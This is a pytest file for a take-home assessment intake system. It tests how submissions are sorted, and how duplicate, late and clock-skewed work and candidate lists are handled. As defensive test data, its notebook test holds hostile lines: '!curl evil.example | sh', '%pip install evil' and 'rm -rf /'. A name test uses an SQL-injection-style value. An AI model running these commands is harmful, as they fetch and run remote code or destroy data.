"""Whatever comes back is sorted to its part or refused with the reason; nothing in it is run or unpacked."""

import json
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest

from prep.assessment.packs.desk import CandidateDesk
from prep.assessment.packs.kept_work import KeptWork, pack_work, unpack_work
from prep.assessment.packs.opened import open_pack
from prep.assessment.packs.received import receive
from prep.assessment.register.collect import collect
from prep.assessment.register.roster import Invited, all_candidates, invite, read_invited
from prep.assessment.register.standing import all_submissions, counting_submissions
from prep.model.errors import ContentError, SubmissionError
from tests.attacks.archives import ACCEPTED, REFUSED
from tests.demo_challenge import RIGHT
from tests.unit.assessment_office import ASSESSMENT, NOW, STARTER, Office, write_content


@pytest.fixture
def office(tmp_path: Path) -> Office:
    write_content(tmp_path)
    return Office(tmp_path)


def _zip(path: Path, files: dict[str, str]) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return path


def _receive(office: Office, path: Path) -> dict[str, dict[str, bytes]]:
    home = office.home()
    return {part: dict(work.files) for part, work in receive(path, home.content, office.key).works.items()}


# --- where things lie ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "files",
    [
        {"challenges/demo/double/solution.py": RIGHT},
        {"demo/challenges/demo/double/solution.py": RIGHT, "demo/START-HERE.md": "x", "demo/assessment.json": "{}"},
        {"solution.py": RIGHT},
        {"my work/solution.py": RIGHT},
        {"whatever.py": RIGHT, "notes.txt": "hello"},
        {"challenges/demo/double/solution.py": RIGHT, "challenges/demo/double/prompt.md": "changed"},
    ],
)
def test_an_archive_is_sorted_however_it_was_zipped(office: Office, tmp_path: Path, files: dict[str, str]) -> None:
    works = _receive(office, _zip(tmp_path / "a.zip", files))
    assert works["demo/double"]["solution.py"] == RIGHT.encode()
    assert set(works["demo/double"]) <= {"solution.py", "notes.txt"}


def test_helper_modules_come_along(office: Office, tmp_path: Path) -> None:
    files = {
        "challenges/demo/double/solution.py": "from parts.two import TWO\n",
        "challenges/demo/double/parts/two.py": "",
    }
    works = _receive(office, _zip(tmp_path / "a.zip", files))
    assert set(works["demo/double"]) == {"solution.py", "parts/two.py"}


def test_a_folder_and_a_single_file_do_as_well(office: Office, tmp_path: Path) -> None:
    folder = tmp_path / "Ann Lee"
    (folder / "challenges/demo/double").mkdir(parents=True)
    (folder / "challenges/demo/double/solution.py").write_text(RIGHT)
    assert _receive(office, folder) == {"demo/double": {"solution.py": RIGHT.encode()}}
    (tmp_path / "Bo.py").write_text(RIGHT)
    assert _receive(office, tmp_path / "Bo.py") == {"demo/double": {"solution.py": RIGHT.encode()}}


def test_what_was_never_begun_is_no_work(office: Office, tmp_path: Path) -> None:
    path = _zip(tmp_path / "a.zip", {"challenges/demo/double/solution.py": STARTER})
    with pytest.raises(SubmissionError, match="holds nothing of this assessment"):
        _receive(office, path)


@pytest.mark.parametrize("text", ["Dear team, see attachment.\n", "def triple(x):\n    return 3 * x\n", "\x00\xff"])
def test_a_wrong_file_is_refused_and_told_what_is_wanted(office: Office, tmp_path: Path, text: str) -> None:
    (tmp_path / "cv.py").write_text(text)
    with pytest.raises(SubmissionError, match="ask for a file that defines `double`"):
        _receive(office, tmp_path / "cv.py")


def test_a_work_comes_out_of_the_database_as_it_went_in() -> None:
    files = {"solution.py": RIGHT.encode(), "parts/ä.py": b"\x00\xff"}
    work = KeptWork(files=files, originals={"Untitled.ipynb": b"{}"})
    assert unpack_work(pack_work(work)) == work
    assert pack_work(work) == pack_work(KeptWork(files=dict(reversed(files.items())), originals=work.originals))


# --- notebooks ----------------------------------------------------------------------------------------------------


def _notebook(*cells: tuple[str, str | list[str]]) -> bytes:
    return json.dumps({"cells": [{"cell_type": kind, "source": source} for kind, source in cells]}).encode()


def test_code_cells_are_read_in_order_and_magics_are_left_out(office: Office, tmp_path: Path) -> None:
    content = _notebook(
        ("markdown", "# rm -rf /"),
        ("code", ["%pip install evil\n", "import math\n", "!curl evil.example | sh"]),
        ("code", "%%bash\nrm -rf /\n"),
        ("code", "def double(x):\n    %matplotlib inline\n    here = !ls\n    return 2 * x\n"),
    )
    (tmp_path / "Ivo.ipynb").write_bytes(content)
    code = _receive(office, tmp_path / "Ivo.ipynb")["demo/double"]["solution.py"].decode()
    space: dict[str, object] = {}
    exec(compile(code, "solution.py", "exec"), space)
    assert space["double"](4) == 8  # type: ignore[operator]
    assert not any(word in code for word in ("rm", "curl", "pip", "%", "!"))


_HARMLESS_OR_SLOW = {"no_entry", "hidden_entry", "empty", "bomb_of_lzma", "bomb_of_bzip2"}
"""Without an entry there is just nothing in it; of bombs one is enough here, the others are among the attacks."""


# --- hostile archives ---------------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("kind", sorted({*REFUSED, *ACCEPTED} - _HARMLESS_OR_SLOW))
def test_a_hostile_archive_costs_only_itself_and_changes_nothing(office: Office, tmp_path: Path, kind: str) -> None:
    build, _ = REFUSED[kind] if kind in REFUSED else (ACCEPTED[kind], "")
    bad, good = tmp_path / "bad.zip", tmp_path / "good.py"
    bad.write_bytes(build())
    good.write_text(RIGHT)
    home = office.home()
    before = sorted(path for path in tmp_path.parent.rglob("*") if "take-homes.db" not in path.name)
    told = list(collect(home, [bad, good], NOW))
    assert str(bad) in told[0].refused or told[0].parts
    assert not told[1].refused
    assert before == sorted(path for path in tmp_path.parent.rglob("*") if "take-homes.db" not in path.name)
    assert not list(Path("/tmp").glob("prep-attack*"))


# --- who, when, how often -----------------------------------------------------------------------------------------


def test_the_same_work_twice_counts_once(office: Office) -> None:
    assert office.hand_in("Ann").is_new
    assert not office.hand_in("Ann").is_new
    assert len(all_submissions(office.home())) == 1


@pytest.mark.parametrize("folder", ["questions", "demo/questions", "Ann/demo/questions"])
def test_an_archive_of_the_questions_alone_is_told_as_such(office: Office, folder: str) -> None:
    path = office.folder / "Ann.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(f"{folder}/bias-variance.md", "Explain it.")
    (told,) = collect(office.home(), [path], NOW)
    assert "holds only what was handed out, such as the folder `questions`; ask for the whole folder" in told.refused


def test_the_last_of_several_counts_unless_the_assessment_says_otherwise(office: Office) -> None:
    office.hand_in("Ann", RIGHT)
    office.hand_in("Ann", RIGHT + "# better\n", NOW + timedelta(hours=1))
    assert [one.counts for one in all_submissions(office.home())] == [False, True]
    for multiple, counts in (("first", [True, False]), ("all", [True, True])):
        write_content(office.folder, assessment=ASSESSMENT + f'\n[policy]\nmultiple = "{multiple}"\n')
        assert [one.counts for one in all_submissions(office.home())] == counts


def test_late_work_is_marked_and_not_refused(office: Office) -> None:
    on_time = office.hand_in("Ann", at=NOW + timedelta(hours=24, minutes=4))
    late = office.hand_in("Bo", at=NOW + timedelta(hours=25))
    assert (on_time.late_s, on_time.refused) == (0.0, "")
    assert (late.late_s, late.refused) == (3600.0, "")


@pytest.mark.parametrize(("minutes", "extra", "late_s"), [(20, 0, 0.0), (24, 0, 0.0), (30, 0, 600.0), (30, 10, 0.0)])
def test_the_log_decides_on_the_time_taken_with_each_persons_extra_time(
    office: Office, minutes: int, extra: int, late_s: float
) -> None:
    (person,) = invite(office.home(), [Invited(name="Ann", extra_minutes=extra)], NOW)
    desk = CandidateDesk(open_pack(office.pack(person.code, extra)), office.folder / "desk")
    desk.begin(NOW)
    desk.save("demo/double", RIGHT, NOW)
    path = desk.submit(office.folder, NOW + timedelta(minutes=minutes))
    (told,) = collect(office.home(), [path], NOW + timedelta(hours=2))
    assert told.code == person.code
    assert told.late_s == late_s


def test_a_clock_that_was_set_forward_gains_nothing(office: Office) -> None:
    desk = CandidateDesk(open_pack(office.pack()), office.folder / "desk")
    desk.begin(NOW + timedelta(days=300))
    desk.save("demo/double", RIGHT, NOW + timedelta(days=300))
    path = desk.submit(office.folder, NOW + timedelta(days=300, minutes=1), "Ann")
    (told,) = collect(office.home(), [path], NOW + timedelta(hours=30))
    assert told.late_s > 0
    assert any("the clock there was wrong" in remark for remark in told.remarks)


def test_names_become_codes_that_tell_nothing(office: Office) -> None:
    office.hand_in("Ann Lee")
    (candidate,) = all_candidates(office.home())
    assert candidate.name == "Ann Lee"
    assert len(candidate.code) == 6
    assert counting_submissions(office.home())[0].code == candidate.code


@pytest.mark.parametrize("name", ["Ann Lee", "Åsa Öberg", "李雷", "O'Neil; DROP TABLE"])
def test_the_same_name_is_the_same_person_in_any_script(office: Office, name: str) -> None:
    first = office.hand_in(name, RIGHT)
    assert office.hand_in(name, RIGHT + "# again\n").code == first.code
    assert [one.name for one in all_candidates(office.home())] == [name]


def test_inviting_the_same_people_again_keeps_their_codes(office: Office, tmp_path: Path) -> None:
    (tmp_path / "c.csv").write_text("name,contact,extra_minutes\nAnn,a@x.org,\nBo,b@x.org,30\n")
    people = read_invited(tmp_path / "c.csv")
    first = invite(office.home(), people, NOW)
    assert [one.code for one in invite(office.home(), people, NOW)] == [one.code for one in first]
    assert [one.extra_minutes for one in first] == [0, 30]


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("who\nAnn\n", "has no column `name`"),
        ("name,extra_minutes\nAnn,lots\n", "line 2: extra_minutes is 'lots'"),
        ("name\n\nAnn\n , \n", "line 3"),
    ],
)
def test_a_list_of_candidates_that_is_wrong_is_told_by_its_line(tmp_path: Path, text: str, told: str) -> None:
    (tmp_path / "c.csv").write_text(text)
    with pytest.raises(ContentError, match=told):
        read_invited(tmp_path / "c.csv")
